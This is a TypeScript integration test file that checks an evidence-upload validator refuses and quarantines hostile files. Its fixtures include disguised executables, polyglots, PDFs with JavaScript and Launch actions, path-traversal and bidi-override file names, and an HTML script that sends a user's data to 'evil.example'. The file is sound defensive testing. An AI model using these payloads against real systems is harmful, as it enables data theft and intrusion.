import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { crc32 } from 'node:zlib';
import { PutEventsCommand } from '@aws-sdk/client-eventbridge';
import type { SQSEvent } from 'aws-lambda';
import { monotonicFactory } from 'ulid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EVIDENCE_KIND_SPECS, EVIDENCE_KINDS, type EvidenceContentType, type EvidenceKind } from '../../schemas/evidence.schema.ts';
import { EVIDENCE_CHECK_CODES, READ_BUDGET_BYTES, type EvidenceCheckCode } from '../../functions/domain/evidence-inspection.ts';
import { EVIDENCE_PREFIX, QUARANTINE_PREFIX, evidenceObjectKey } from '../../functions/domain/evidence-keys.ts';
import { installTimeSource } from '../../functions/shared/clock.ts';
import { resetConfigCache } from '../../functions/shared/env.ts';
import { APPLICANT, CREDIT_CODE, APP_ID, application, evidenceItem, membership } from '../unit/evidence/fixtures.ts';
import { bodyOf, buildJpeg, buildPdf, buildPng, httpEvent, lambdaContext, withJpegComment } from '../unit/evidence/helpers.ts';
import { fakeEvidenceBucket } from '../support/fake-evidence-bucket.ts';
import { setInProcessEnv, stubOtherAwsClients } from '../support/in-process.ts';
import { useTestTable } from '../support/table.ts';
import { verifyReport } from '../support/verify-report.ts';
import { keys } from '../support/table-keys.ts';

/**
 * Issue 12 (hostile files): for every evidence kind of Art.3 and Art.4,
 * files a hostile or careless client could upload — executables and HTML
 * named as PDF or image, polyglots, zero bytes, truncated files, images
 * declaring enormous dimensions, PDFs with JavaScript, Launch and automatic
 * actions — go through the real validator (the SQS-wrapped S3 event handler)
 * against DynamoDB Local and an in-memory versioned bucket. Each must end
 * `invalid` with stable reason codes, be moved to `quarantine/` of its own
 * key, cost at most READ_BUDGET_BYTES of reads, and leave nothing outside
 * the application's prefix. Hostile file names and event keys (path
 * traversal, NUL, RTL override, 300 characters) never shape a key. The
 * heap after gc stays within 20 MB over the ~200 validations and grants
 * that follow the first kind.
 */

setInProcessEnv();
const table = useTestTable({ clear: 'once' });
const aws = stubOtherAwsClients();
const bucket = fakeEvidenceBucket(aws.s3);
aws.events.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [{ EventId: 'event-1' }] });

const { handler: validateHandler } = await import('../../functions/handlers/validate-evidence.handler.ts');
const { handler: requestUploadHandler } = await import('../../functions/handlers/request-evidence-upload.handler.ts');

const NOW = Date.parse('2025-03-01T08:00:00.000Z');
const MB = 1024 * 1024;
const BUCKET = 'evidence-test';
const nextId = monotonicFactory(() => 0.5);
const report = verifyReport('hostile-files');
const row = report.check;

// ── hostile bytes ───────────────────────────────────────────────────────────

const padded = (head: string | Uint8Array, size = 4096): Uint8Array => {
  const bytes = new Uint8Array(size);
  bytes.set(typeof head === 'string' ? Buffer.from(head, 'latin1') : head);
  return bytes;
};

function pngWithChunk(png: Uint8Array, type: string, data: string): Uint8Array {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), Buffer.from(data, 'latin1')]);
  const chunk = Buffer.alloc(body.length + 8);
  chunk.writeUInt32BE(body.length - 4, 0);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), body.length + 4);
  // After the signature (8) and IHDR (25): IHDR must stay the first chunk.
  return new Uint8Array(Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]));
}

function pngDeclaring(width: number, height: number): Uint8Array {
  const png = Buffer.from(buildPng(1200, 900));
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  return new Uint8Array(png);
}

function jpegDeclaring(width: number, height: number): Uint8Array {
  const jpeg = Buffer.from(buildJpeg(1600, 1200));
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return new Uint8Array(jpeg);
}

const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]);
const pe = (() => {
  const bytes = padded('MZ\x90\x00\x03\x00\x00\x00', 4096);
  Buffer.from(bytes.buffer).writeUInt32LE(0x80, 0x3c);
  bytes.set(Buffer.from('PE\0\0', 'latin1'), 0x80);
  return bytes;
})();
const HTML = '<!DOCTYPE html><html><body><script>fetch("/v1/me",{credentials:"include"}).then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>';
const PDF_IN_TEXT = Buffer.from(buildPdf({ extra: '<< /S /JavaScript /JS (app.alert(1)) >>' })).toString('latin1');
const pdfWith = (extra: string) => buildPdf({ padTo: 4096, extra });

interface HostileFile {
  readonly name: string;
  /** The type it pretends to be (what its name and the client say). */
  readonly claims: EvidenceContentType;
  readonly bytes: Uint8Array;
  /** Codes the validator must give when the kind accepts the claimed type. */
  readonly expect: readonly EvidenceCheckCode[];
}

const HOSTILE_FILES: readonly HostileFile[] = [
  { name: 'ELF executable named as PDF', claims: 'application/pdf', bytes: padded(ELF), expect: ['EVIDENCE_FORMAT_UNRECOGNISED'] },
  { name: 'ELF executable named as JPEG', claims: 'image/jpeg', bytes: padded(ELF), expect: ['EVIDENCE_FORMAT_UNRECOGNISED'] },
  { name: 'PE (MZ) executable named as PDF', claims: 'application/pdf', bytes: pe, expect: ['EVIDENCE_FORMAT_UNRECOGNISED'] },
  { name: 'PE (MZ) executable named as PNG', claims: 'image/png', bytes: pe, expect: ['EVIDENCE_FORMAT_UNRECOGNISED'] },
  { name: 'HTML page named as PDF', claims: 'application/pdf', bytes: padded(HTML), expect: ['EVIDENCE_FORMAT_UNRECOGNISED'] },
  { name: 'HTML page named as PNG', claims: 'image/png', bytes: padded(HTML), expect: ['EVIDENCE_FORMAT_UNRECOGNISED'] },
  { name: 'polyglot: HTML script before a PDF header', claims: 'application/pdf', bytes: padded(`<html><script>alert(document.cookie)</script><!--\n${PDF_IN_TEXT}`, 8192), expect: ['EVIDENCE_POLYGLOT'] },
  { name: 'polyglot: JPEG carrying a PDF in a comment', claims: 'image/jpeg', bytes: withJpegComment(buildJpeg(1600, 1200), PDF_IN_TEXT), expect: ['EVIDENCE_POLYGLOT'] },
  { name: 'polyglot: JPEG carrying an HTML script in a comment', claims: 'image/jpeg', bytes: withJpegComment(buildJpeg(1600, 1200), HTML), expect: ['EVIDENCE_POLYGLOT'] },
  { name: 'polyglot: PNG carrying an HTML script in a tEXt chunk', claims: 'image/png', bytes: pngWithChunk(buildPng(1200, 900), 'tEXt', `Comment\0${HTML}`), expect: ['EVIDENCE_POLYGLOT'] },
  { name: 'polyglot: PNG carrying an SVG in a tEXt chunk', claims: 'image/png', bytes: pngWithChunk(buildPng(1200, 900), 'tEXt', 'x\0<svg onload=alert(1)>'), expect: ['EVIDENCE_POLYGLOT'] },
  { name: 'zero bytes named as PDF', claims: 'application/pdf', bytes: new Uint8Array(), expect: ['EVIDENCE_FORMAT_UNRECOGNISED', 'EVIDENCE_TOO_SMALL'] },
  { name: 'zero bytes named as JPEG', claims: 'image/jpeg', bytes: new Uint8Array(), expect: ['EVIDENCE_FORMAT_UNRECOGNISED', 'EVIDENCE_TOO_SMALL'] },
  { name: 'truncated PDF (no %%EOF)', claims: 'application/pdf', bytes: buildPdf({ padTo: 8000, withoutEof: true }), expect: ['EVIDENCE_PDF_TRUNCATED'] },
  { name: 'truncated PDF (cut after 600 bytes)', claims: 'application/pdf', bytes: buildPdf({ padTo: 8000 }).subarray(0, 600), expect: ['EVIDENCE_PDF_TRUNCATED', 'EVIDENCE_TOO_SMALL'] },
  { name: 'truncated PNG (signature and half an IHDR)', claims: 'image/png', bytes: buildPng(1200, 900).subarray(0, 20), expect: ['EVIDENCE_IMAGE_UNREADABLE'] },
  { name: 'truncated JPEG (cut before its frame header)', claims: 'image/jpeg', bytes: buildJpeg(1600, 1200, { app1Bytes: 5000 }).subarray(0, 3000), expect: ['EVIDENCE_IMAGE_UNREADABLE'] },
  { name: 'PNG whose IHDR declares 100000 × 100000', claims: 'image/png', bytes: pngDeclaring(100_000, 100_000), expect: ['EVIDENCE_IMAGE_TOO_LARGE'] },
  { name: 'PNG whose IHDR declares 2^31 - 1 × 1', claims: 'image/png', bytes: pngDeclaring(0x7fffffff, 1), expect: ['EVIDENCE_IMAGE_TOO_LARGE'] },
  { name: 'PNG whose IHDR declares 4294967295 × 4294967295 (beyond the PNG limit)', claims: 'image/png', bytes: pngDeclaring(0xffffffff, 0xffffffff), expect: ['EVIDENCE_IMAGE_UNREADABLE'] },
  { name: 'JPEG whose SOF declares 65535 × 65535', claims: 'image/jpeg', bytes: jpegDeclaring(65_535, 65_535), expect: ['EVIDENCE_IMAGE_TOO_LARGE'] },
  { name: 'PDF with a /JavaScript action', claims: 'application/pdf', bytes: pdfWith('<< /S /JavaScript /JS (app.alert(1)) >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  { name: 'PDF with a /JS entry alone', claims: 'application/pdf', bytes: pdfWith('<< /A << /JS (this.exportDataObject({cName:"x",nLaunch:2})) >> >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  { name: 'PDF with a /Launch action', claims: 'application/pdf', bytes: pdfWith('<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  { name: 'PDF with an escaped name /J#61vaScript', claims: 'application/pdf', bytes: pdfWith('<< /S /J#61vaScript >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  { name: 'PDF whose /OpenAction runs JavaScript', claims: 'application/pdf', bytes: pdfWith('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  { name: 'PDF whose /OpenAction launches a program (by reference)', claims: 'application/pdf', bytes: pdfWith('<< /OpenAction 5 0 R >>\nendobj\n5 0 obj\n<< /S /Launch /F (calc.exe) >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  { name: 'PDF whose /OpenAction opens a URI', claims: 'application/pdf', bytes: pdfWith('<< /OpenAction << /S /URI /URI (https://evil.example/track) >> >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  { name: 'PDF whose page /AA submits a form', claims: 'application/pdf', bytes: pdfWith('<< /Type /Page /AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>'), expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'] },
  {
    name: '9 MB PDF with a /Launch action in its last 1024 bytes',
    claims: 'application/pdf',
    bytes: new Uint8Array(Buffer.concat([buildPdf({ padTo: 9 * MB, withoutEof: true }), Buffer.from('9 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%%EOF\n', 'latin1')])),
    expect: ['EVIDENCE_PDF_ACTIVE_CONTENT'],
  },
];

// ── the validator, as S3 → EventBridge → SQS delivers an upload ─────────────

let sequence = 0;

function objectCreated(key: string, versionId: string, size: number): SQSEvent {
  sequence += 1;
  const detail = { version: '0', bucket: { name: BUCKET }, object: { key, size, etag: 'x', 'version-id': versionId, sequencer: sequence.toString(16).toUpperCase().padStart(16, '0') }, reason: 'POST Object' };
  return {
    Records: [
      {
        messageId: `m-${sequence}`,
        receiptHandle: 'r',
        body: JSON.stringify({ version: '0', id: `e-${sequence}`, 'detail-type': 'Object Created', source: 'aws.s3', account: '111122223333', time: '2025-03-01T08:01:00Z', region: 'cn-north-1', resources: [], detail }),
        attributes: {} as never,
        messageAttributes: {},
        md5OfBody: '',
        eventSource: 'aws:sqs',
        eventSourceARN: 'arn:aws-cn:sqs:cn-north-1:111122223333:evidence',
        awsRegion: 'cn-north-1',
      },
    ],
  };
}

interface Verdict {
  readonly status: unknown;
  readonly codes: string[];
  readonly failures: number;
}

/** Grants a pending item of `kind` for `bytes` declared as `declared`, stores the version, and runs the validator on its event. */
async function uploadAndValidate(kind: EvidenceKind, bytes: Uint8Array, declared: string): Promise<Verdict & { key: string }> {
  const itemId = nextId(NOW);
  const key = evidenceObjectKey({ applicationId: APP_ID, kind, itemId });
  await table.put(evidenceItem(kind, itemId, { declaredContentType: declared, declaredSize: bytes.length }));
  bucket.put(key, 'v1', bytes);
  const out = (await validateHandler(objectCreated(key, 'v1', bytes.length), lambdaContext)) as { batchItemFailures: unknown[] };
  const stored = await table.get(`APP#${APP_ID}`, `EVIDENCE#${kind}#${itemId}`);
  return { key, status: stored?.status, codes: ((stored?.reasons ?? []) as Array<{ code: string }>).map((r) => r.code), failures: out.batchItemFailures.length };
}

/** Every write lands under this application's prefix, or under its quarantine copy. */
function writesOutsidePrefix(): string[] {
  const allowed = [`${EVIDENCE_PREFIX}${APP_ID}/`, `${QUARANTINE_PREFIX}${EVIDENCE_PREFIX}${APP_ID}/`];
  return bucket.writes().filter((w) => !allowed.some((prefix) => w.key.startsWith(prefix))).map((w) => `${w.command} ${w.key}`);
}

/** The heap after a full collection (`--expose-gc` turned on at run time). */
function heapAfterGc(): number {
  setFlagsFromString('--expose-gc');
  (runInNewContext('gc') as () => void)();
  return process.memoryUsage().heapUsed;
}
let heapAfterWarmUp = 0;
let validationsSinceWarmUp = 0;
let grantsSinceWarmUp = 0;

/** Validations run at once: enough to overlap DynamoDB round trips, few enough for a loaded machine. */
const VALIDATION_CONCURRENCY = 6;

const REFUSAL_CODES: readonly string[] = ['EVIDENCE_CONTENT_MISMATCH', 'EVIDENCE_TYPE_NOT_ALLOWED', 'EVIDENCE_FORMAT_UNRECOGNISED'];

describe('hostile evidence files, for every kind (Art.3, Art.4)', () => {
  beforeAll(async () => {
    installTimeSource({ now: () => NOW });
    resetConfigCache();
    await table.put(application('DRAFT'), membership(APPLICANT, CREDIT_CODE));
  });

  afterAll(() => {
    installTimeSource(undefined);
    report.write();
  });

  it.each(EVIDENCE_KINDS.map((kind) => [kind] as const))(
    'refuses every hostile file as %s with a stable reason, quarantined in its own key, reading at most 64 KiB',
    async (kind) => {
      const spec = EVIDENCE_KIND_SPECS[kind];
      bucket.clearLog();
      const cases = HOSTILE_FILES.map((file) => {
        const accepted = (spec.contentTypes as readonly string[]).includes(file.claims);
        return { file, accepted, declared: accepted ? file.claims : (spec.contentTypes[0] as string) };
      });
      // A few files at a time, as uploads arrive; an error is kept for its file's row.
      const verdicts: Array<(Verdict & { key: string }) | Error> = [];
      for (let start = 0; start < cases.length; start += VALIDATION_CONCURRENCY) {
        const batch = cases.slice(start, start + VALIDATION_CONCURRENCY);
        verdicts.push(...(await Promise.all(batch.map((c) => uploadAndValidate(kind, c.file.bytes, c.declared).catch((error: unknown) => (error instanceof Error ? error : new Error(String(error))))))));
      }
      for (const [i, { file, accepted, declared }] of cases.entries()) {
        const outcome = verdicts[i];
        await row(`${kind}: ${file.name}`, () => {
          const context = `${kind}: ${file.name}`;
          if (outcome instanceof Error) throw outcome;
          const verdict = outcome as Verdict & { key: string };
          expect(verdict.failures, context).toBe(0);
          expect(verdict.status, context).toBe('invalid');
          expect(verdict.codes.length, context).toBeGreaterThan(0);
          for (const code of verdict.codes) expect(EVIDENCE_CHECK_CODES, context).toContain(code);
          if (accepted) expect(verdict.codes, context).toEqual(expect.arrayContaining([...file.expect]));
          else expect(verdict.codes.some((c) => REFUSAL_CODES.includes(c)), context).toBe(true);
          expect(bucket.bytesRead(verdict.key), context).toBeLessThanOrEqual(READ_BUDGET_BYTES);
          // The invalid version leaves the evidence key for its quarantine copy; nothing else is written.
          expect(bucket.writes(verdict.key), context).toEqual([
            { command: 'CopyObject', key: `${QUARANTINE_PREFIX}${verdict.key}/v1` },
            { command: 'DeleteObject', key: verdict.key },
          ]);
          return `refused ${verdict.codes.join(',')} (declared ${declared}, read ${bucket.bytesRead(verdict.key)} B)`;
        });
      }
      // The first kind warms the code paths up; the heap is measured from here (see the last test).
      if (heapAfterWarmUp === 0) heapAfterWarmUp = heapAfterGc();
      else validationsSinceWarmUp += verdicts.length;
      await row(`${kind}: every write under the application's prefix`, () => {
        expect(bucket.writes()).toHaveLength(2 * HOSTILE_FILES.length);
        expect(writesOutsidePrefix()).toEqual([]);
        return `${bucket.writes().length} writes, all under applications/<app>/ or quarantine/applications/<app>/`;
      });
    },
  );

  describe('object keys a client might try in an S3 event', () => {
    const itemId = nextId(NOW);
    const keysTried = [
      `applications/${APP_ID}/policies/../../../etc/passwd`,
      `applications/${APP_ID}/../../x.pdf`,
      `applications/${APP_ID}/policies/${itemId}/../../../../quarantine/x`,
      `applications/${APP_ID}/policies/${itemId}\u0000.pdf`,
      `applications/${APP_ID}/policies/${itemId}\u202Efdp.exe`,
      `applications/${APP_ID}/policies/${'A'.repeat(300)}`,
      `applications/../${APP_ID}/policies/${itemId}`,
      `quarantine/applications/${APP_ID}/policies/${itemId}/v1`,
      `/applications/${APP_ID}/policies/${itemId}`,
      `applications/${APP_ID}/申请表/${itemId}`,
    ];
    it.each(keysTried.map((key) => [JSON.stringify(key), key] as const))('ignores %s: no read, no write, no record', async (label, key) => {
      bucket.clearLog();
      validationsSinceWarmUp += 1;
      await row(`event key ${label}`, async () => {
        bucket.put(key, 'v1', pdfWith('<< /S /JavaScript >>'));
        const out = (await validateHandler(objectCreated(key, 'v1', 4096), lambdaContext)) as { batchItemFailures: unknown[] };
        expect(out.batchItemFailures).toEqual([]);
        expect(bucket.bytesRead()).toBe(0);
        expect(bucket.writes()).toEqual([]);
        return 'ignored (not an evidence key)';
      });
    });
  });

  describe('file names a client might send when it asks for an upload', () => {
    const names = [
      '../../x.pdf',
      '..\\..\\windows\\system32\\x.pdf',
      '/etc/passwd',
      'report\u0000.exe.pdf',
      '\u202Efdp.exe',
      'invoice\u202Egpj.exe',
      '申请表\u2066.pdf',
      '%2e%2e%2fx.pdf',
      'CON.pdf',
      'a'.repeat(255),
      'a'.repeat(300),
      ' ',
      '....pdf',
    ];
    let appNo = 0;
    it.each(names.map((name) => [JSON.stringify(name.length > 40 ? `${name.slice(0, 10)}…(${name.length} chars)` : name), name] as const))(
      'never lets %s shape the key or the policy, and shows it without a path, controls or bidi overrides',
      async (label, fileName) => {
        // A fresh application each time: pending grants hold places of the kind.
        appNo += 1;
        const applicationId = `01JAPPNAME${String(appNo).padStart(16, '0')}`;
        await table.put(application('DRAFT', { ...keys.application(applicationId), id: applicationId }));
        grantsSinceWarmUp += 1;
        await row(`upload name ${label}`, async () => {
          const result = await requestUploadHandler(
            httpEvent({
              sub: APPLICANT,
              groups: ['applicant'],
              method: 'POST',
              pathParameters: { applicationId },
              body: { kind: 'policies', fileName, contentType: 'application/pdf', size: 4096, sealConfirmed: true, sha256: 'ab'.repeat(32) },
            }),
            lambdaContext,
          );
          if (result.statusCode === 400) {
            const body = bodyOf<{ code: string; message: { zh: string; en: string } }>(result);
            expect(body.code).toMatch(/^[A-Z][A-Z0-9_]+$/);
            expect(body.message.zh.length * body.message.en.length).toBeGreaterThan(0);
            return `refused 400 ${body.code}`;
          }
          expect(result.statusCode).toBe(201);
          const body = bodyOf<{ itemId: string; upload: { url: string; fields: Record<string, string> } }>(result);
          const key = `applications/${applicationId}/policies/${body.itemId}`;
          expect(body.upload.fields.key).toBe(key);
          expect(body.itemId).toMatch(/^[0-9A-HJKMNP-TV-Z]{26}$/);
          const policy = JSON.parse(Buffer.from(body.upload.fields.Policy as string, 'base64').toString('utf8')) as { conditions: unknown[] };
          expect(policy.conditions).toEqual(expect.arrayContaining([['eq', '$key', key], ['eq', '$Content-Type', 'application/pdf']]));
          // No condition leaves the key open (starts-with) and no URL part carries the name.
          expect(JSON.stringify(policy.conditions)).not.toContain('starts-with');
          expect(body.upload.url).not.toMatch(/\.\.|%2e|passwd|\u202e/i);
          const stored = await table.get(`APP#${applicationId}`, `EVIDENCE#policies#${body.itemId}`);
          const shown = String(stored?.fileName);
          expect(shown).not.toMatch(/[\\/\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
          expect(shown.endsWith('.pdf')).toBe(true);
          expect(Array.from(shown).length).toBeLessThanOrEqual(120);
          return `granted for ${key.replace(applicationId, '<app>').replace(body.itemId, '<ulid>')}, shown as ${JSON.stringify(shown.length > 40 ? `${shown.slice(0, 20)}…` : shown)}`;
        });
      },
    );
  });

  it('keeps memory flat: the heap after gc grows by less than 20 MB from the first kind to the end (about 200 hostile validations and grants)', async () => {
    const grown = heapAfterGc() - heapAfterWarmUp;
    await row(`memory over ${validationsSinceWarmUp} hostile validations and ${grantsSinceWarmUp} grants`, () => {
      expect(heapAfterWarmUp).toBeGreaterThan(0);
      expect(validationsSinceWarmUp).toBeGreaterThan(150);
      expect(grown).toBeLessThan(20 * MB);
      return `heap grew ${(grown / MB).toFixed(1)} MB (bound 20 MB)`;
    });
  });
});

